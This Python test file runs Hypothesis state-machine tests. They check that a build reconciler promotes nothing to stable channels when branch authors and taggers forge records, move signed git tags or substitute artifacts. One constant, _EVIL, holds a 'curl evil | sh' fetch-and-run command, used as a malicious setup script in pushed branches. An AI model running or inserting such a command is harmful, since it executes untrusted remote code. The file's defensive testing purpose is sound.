"""Whatever a branch author and a tagger do, with `git.sign` nothing becomes stable but what honest runs stand for."""

from __future__ import annotations

import itertools
import shutil
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, seed, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, invariant, precondition, rule, run_state_machine_as_test

from reconciler.git.repository import Repository
from reconciler.git.tags import tag_signature
from reconciler.model.errors import ReconcilerError
from reconciler.model.observation import Seen
from reconciler.plan.trust import believed
from reconciler.steps.one_writer import written_by_branch
from reconciler.steps.questions.verify import Verifier
from tests.integration.loop.effects import in_the_middle
from tests.integration.loop.hostile import EMPTIED, SUITE, TESTS, Town
from tests.integration.loop.world import EU, FLEET, US, World, git

pytestmark = pytest.mark.long

IMAGES = st.sampled_from(["base", "web"])
BRANCHES = st.sampled_from(["feature/more", "reconciler/state", "HEAD", "x/refs/heads/main"])
SETUPS = st.sampled_from(["echo one\n", "echo two\n"])
REGIONS = st.sampled_from([US, EU])
WHICH = st.integers(0, 5)
"""Counted back from the newest."""
DEEDS = (
    "nothing", "forges its record", "signs a forged record", "puts another good tag there", "stands in",
    "stands in elsewhere", "shares",
)  # fmt: skip
"""What the tagger does about what a preview built, before its merge is seen."""
ODD = st.sampled_from(["image/web/a\u2028b", "image/\u0085", "verdict/web/-x", "sbom/web/refs/heads/main"])
_EVIL = "curl evil | sh\n"


class Hostile(RuleBasedStateMachine):
    """A fleet of two, built and judged by the honest, and everybody who may do something about it."""

    def __init__(self, built: Town, root: Path) -> None:
        super().__init__()
        self.town = built.copy_to(root)
        self.world: World = self.town.world
        self.tags = self.town.signed_tags()
        """Every tag that there ever was."""
        self.pushed: list[str] = []
        self.numbers = itertools.count()

    def teardown(self) -> None:
        """In the end, too."""
        self._honest_run("main-a")
        self._no_tag_is_believed_under_another_name()
        self.what_is_in_a_channel_is_good()
        self.nothing_forged_is_in_state()
        self.nothing_of_another_account_is_recorded()
        self._verify()
        shutil.rmtree(self.world.root)

    # The author.

    @rule(branch=BRANCHES, image=IMAGES, setup=SETUPS | st.just(_EVIL), suite=st.sampled_from([SUITE, EMPTIED]))
    def author_pushes_a_branch_that_is_previewed(self, branch: str, image: str, setup: str, suite: str) -> None:
        if branch == "HEAD":
            branch = f"image/{image}"
        self.town.push_branch(branch, image, setup, suite)
        self.pushed.append(branch)
        self._guarded(lambda: self.town.preview(branch))
        self.tags |= self.town.signed_tags()

    @rule(image=IMAGES, setup=SETUPS)
    def reviewer_passes_a_change(self, image: str, setup: str) -> None:
        self.town.merge(image, setup)

    @rule(image=IMAGES)
    def author_pushes_a_branch_that_touches_state_and_is_refused(self, image: str) -> None:
        self.town.push_branch("feature/state", image, "echo one\n", SUITE)
        folder = self.world.root / "author"
        (folder / f"state/{image}.lock.json").write_text("{}\n")
        git(folder, "commit", "--quiet", "--all", "--message", f"{image}: build\n\nReconciler-Image: {image}")
        repository = Repository.open(folder)
        recorded = git(folder, "rev-parse", "origin/main")
        refused = written_by_branch(
            repository, repository.tree(), commit=repository.head, recorded=recorded, branch="reconciler/state"
        )
        assert refused

    # The tagger.

    @precondition(lambda self: self.world.registry.artifacts)
    @rule(which=WHICH, signed=st.booleans())
    def tagger_forges_a_record(self, which: int, signed: bool) -> None:  # noqa: FBT001 - hypothesis hands it in by name
        artifact = self._artifact(which)
        image = artifact.own("image")
        if image in ("base", "web") and artifact.began is not None:
            self.town.forge(image, artifact, signed=signed)

    @rule(which=WHICH, onto=WHICH)
    def tagger_puts_a_good_tag_under_another_name(self, which: int, onto: int) -> None:
        kept = sorted(self.tags)
        source, artifact = kept[-1 - which % len(kept)], self._artifact(onto)
        kind = source.partition("/")[0]
        self.town.put_tag(f"{kind}/{artifact.own('image') or 'web'}/{artifact.own('build') or 'x'}", self.tags[source])
        self._no_tag_is_believed_under_another_name()

    @rule(name=ODD)
    def somebody_gives_refs_odd_names(self, name: str) -> None:
        self.town.give_odd_name(name)

    @rule(which=WHICH)
    def tagger_takes_a_tag_away_or_puts_it_back(self, which: int) -> None:
        kept = sorted(self.tags)
        name = kept[-1 - which % len(kept)]
        self.town.put_tag(name, None if name in self.town.signed_tags() else self.tags[name])

    @rule(which=WHICH, region=REGIONS, same_name=st.booleans(), hides=st.booleans())
    def tagger_makes_one_like_ours(self, which: int, region: str, same_name: bool, hides: bool) -> None:  # noqa: FBT001
        model = self._artifact(which)
        name = model.name if same_name else f"mine-{next(self.numbers)}"
        self.town.make_like(model, location=region, name=name)
        if hides:
            self.world.registry.tag(model, {"reconciler:phase": "rejected"})

    @rule(image=IMAGES, region=REGIONS, which=WHICH, own=st.booleans())
    def tagger_makes_what_main_wants(self, image: str, region: str, which: int, own: bool) -> None:  # noqa: FBT001
        began = self.world.clock.moment.strftime("%Y%m%dT%H%M%SZ")
        build = f"{began}-{next(self.numbers):07x}" if own else self._artifact(which).own("build") or "x"
        model = self.world.artifacts(image)[:1] or [self._artifact(0)]
        key = self.town.wanted(image)
        marks = {"key": key, "build": build, "smoke": "passed", "phase": "preliminary", "image": image}
        marks["commit"] = self.world.head()
        self.town.make_like(model[0], location=region, name=f"{image}-{build}", **marks)

    # What takes several of them to go far.

    @rule(image=IMAGES, suite=st.sampled_from([SUITE, EMPTIED]), deed=st.sampled_from(DEEDS))
    def a_change_is_previewed_and_merged_and_the_tagger_steps_in(self, image: str, suite: str, deed: str) -> None:
        setup = f"echo {next(self.numbers)}\n"
        self.town.push_branch("feature/change", image, setup, suite)
        self._guarded(lambda: self.town.preview("feature/change"))
        made = [one for one in self.world.artifacts(image) if one.own("phase") == "preliminary" and one.complete]
        if made:
            self._step_in(deed, image, made[-1])
        self.town.merge(image, setup)
        self._honest_run("main-a")

    def _step_in(self, deed: str, image: str, made: Seen) -> None:
        location = EU if deed == "stands in elsewhere" else made.location
        match deed:
            case "forges its record":
                self.town.forge(image, made, signed=False)
            case "signs a forged record":
                self.town.forge(image, made, signed=True)
            case "puts another good tag there":
                name = f"image/{image}/{made.own('build')}"
                other = next(one for one in sorted(self.tags) if one.startswith(f"image/{image}/") and one != name)
                self.town.put_tag(name, self.tags[other])
                self._no_tag_is_believed_under_another_name()
            case "stands in" | "stands in elsewhere" | "shares":
                stand_in = self.town.make_like(made, location=location, name=f"other-{next(self.numbers)}")
                if deed == "shares":
                    self.world.registry.of_others.add(stand_in.id)
                if location == made.location:
                    self.town.hide(made)

    @rule(image=IMAGES)
    def a_change_is_merged_and_the_tagger_is_faster(self, image: str) -> None:
        self.town.merge(image, f"echo {next(self.numbers)}\n")
        self.tagger_makes_what_main_wants(image=image, region=US, which=0, own=True)
        self._honest_run("main-a")
        self._verify()

    @rule(image=IMAGES, region=REGIONS, same_name=st.booleans())
    def an_artifact_is_lost_and_the_tagger_has_another(self, image: str, region: str, same_name: bool) -> None:  # noqa: FBT001
        newest = self.world.lock(image).builds[0].id
        there = [one for one in self.world.artifacts(image) if (one.location, one.own("build")) == (region, newest)]
        self.somebody_deletes_artifacts(image=image, region=region)
        for one in there[:1]:
            name = one.name if same_name else f"other-{next(self.numbers)}"
            self.town.make_like(one, location=region, name=name)
        self._honest_run("main-b")

    @rule(which=WHICH, onto=WHICH)
    def tagger_marks_an_artifact_as_another(self, which: int, onto: int) -> None:
        model, artifact = self._artifact(which), self._artifact(onto)
        ours = {name: value for name, value in model.tags.items() if name.startswith("reconciler:")}
        self.world.registry.tag(artifact, ours)

    @rule(which=WHICH)
    def tagger_says_that_it_passed(self, which: int) -> None:
        marks = {"reconciler:smoke": "passed", "reconciler:phase": "stable", "reconciler:channel": "stable"}
        self.world.registry.tag(self._artifact(which), marks)

    @rule(image=IMAGES, region=REGIONS)
    def tagger_takes_marks_off(self, image: str, region: str) -> None:
        self.world.strip_tags(image, region)

    @rule(image=IMAGES, region=REGIONS)
    def somebody_deletes_artifacts(self, image: str, region: str) -> None:
        self.town.note_copies()
        self.world.lose(image, region)

    @rule(region=REGIONS, fleet=st.sampled_from([None, "acme/other"]))
    def another_team_makes_an_artifact(self, region: str, fleet: str | None) -> None:
        tags = {"team": "payroll"} | ({"reconciler:fleet": fleet, "reconciler:image": "web"} if fleet else {})
        self.world.registry.seed(region, f"payroll-{next(self.numbers)}", tags=tags)

    @rule(region=REGIONS)
    def another_account_shares_an_artifact_that_says_it_is_ours(self, region: str) -> None:
        shared = self.town.make_like(self._artifact(0), location=region, name=f"web-{next(self.numbers)}")
        self.world.registry.of_others.add(shared.id)

    # The honest.

    @rule()
    def the_honest_validate(self) -> None:
        self._guarded(self.town.validate)

    @rule(refresh=st.booleans())
    def an_honest_run(self, refresh: bool) -> None:  # noqa: FBT001 - as above
        self._honest_run("main-a", refresh=refresh)

    @rule(image=IMAGES)
    def two_honest_runs_at_once(self, image: str) -> None:
        slow, fast = self.town.run("main-a"), self.town.run("main-b")
        self._run_around(lambda: in_the_middle(slow, image, fast.reconcile).reconcile(refresh=True))

    @rule()
    def hours_pass(self) -> None:
        self.world.pass_days(1)

    def _honest_run(self, name: str, *, refresh: bool = False) -> None:
        self._run_around(lambda: self.town.run(name).reconcile(refresh=refresh, prune=True))

    def _run_around(self, run: Callable[[], object]) -> None:
        before = self.town.foreign()
        self._guarded(run)
        for one in before:
            assert self.world.registry.find(one.location, one.id) == one, "what is another's was touched"
        self.tags |= self.town.signed_tags()

    def _guarded(self, act: Callable[[], object]) -> None:
        self.town.note_copies()
        with suppress(ReconcilerError):  # that they hold a run up is told elsewhere: here it counts what it believes
            act()
        self.town.note_copies()
        self.world.clock.advance(hours=1)

    @invariant()
    def what_is_in_a_channel_is_good(self) -> None:
        for image in self.world.recorded():
            lock = self.world.lock(image)
            for build in filter(None, map(lock.build, (lock.channels.stable, lock.channels.candidate))):
                for artifact in build.artifacts:
                    assert self.town.account.is_good(image, artifact.id), f"{artifact.id} is in a channel of {image}"

    @invariant()
    def nothing_forged_is_in_state(self) -> None:
        for path in self.world.state_files():
            text = self.world.show(path)
            assert "forged" not in text
            assert f'"tests": {TESTS}' not in text

    @invariant()
    def nothing_of_another_account_is_recorded(self) -> None:
        for image in self.world.recorded():
            ids = {one.id for build in self.world.lock(image).builds for one in build.artifacts}
            assert not ids & self.world.registry.of_others

    def _no_tag_is_believed_under_another_name(self) -> None:
        """Neither by a run that adopts, nor by an auditor, whoever signed it."""
        moved = [name for name in self.town.signed_tags() if self.town.made_for(name) != name]
        if not moved:
            return
        clone = self.town.run("auditor").root
        git(clone, "fetch", "--quiet", "--force", "origin", "+refs/tags/*:refs/tags/*")
        repository = Repository.open(clone)
        for name in moved:
            assert believed(repository.annotated_tag(name), sign=True) is None, f"{name} is believed"
            assert tag_signature(repository.git, name).state != "good", f"{name} is proven"

    def _verify(self) -> None:
        clone = self.town.run("ci").root
        git(clone, "fetch", "--quiet", "--force", "--tags", "origin", "main")
        repository = Repository.open(clone)
        verifier = Verifier(repository, git(clone, "rev-parse", "FETCH_HEAD"), "main", registry=self.world.registry)
        for image in self.world.recorded():
            try:
                found = verifier.verify(image)
            except ReconcilerError:
                continue  # no channel points to a build
            build = self.world.lock(image).build(found.build)
            assert build is not None
            if found.verified:
                assert all(self.town.account.was_built(image, one.id) for one in build.artifacts), found

    def _artifact(self, which: int) -> Seen:
        marked = [one for one in self.world.registry.artifacts if one.own("fleet") == FLEET]
        there = marked or list(self.world.registry.artifacts)
        return there[-1 - which % len(there)]


def play(town: Town, folder: Path, how: settings, *, number: int | None = None) -> None:
    """Play so many games, each of so many moves; `number` seeds them."""
    numbers = itertools.count()

    def game() -> Hostile:
        return Hostile(town, folder / f"world-{next(numbers)}")

    told = settings(
        how, database=None, suppress_health_check=list(HealthCheck),
        phases=[Phase.generate], report_multiple_bugs=False,  # shrinking takes longer than reading
    )  # fmt: skip
    run_state_machine_as_test(game if number is None else seed(number)(game), settings=told)  # type: ignore[arg-type] # it only calls it


@pytest.fixture(scope="module")
def town(own_home: None, tmp_path_factory: pytest.TempPathFactory) -> Town:
    return Town.begin(tmp_path_factory.mktemp("town") / "town")


def test_whatever_they_do_nothing_becomes_stable_that_honest_runs_do_not_stand_for(town: Town, tmp_path: Path) -> None:
    play(town, tmp_path, settings(max_examples=10, stateful_step_count=7, derandomize=True))
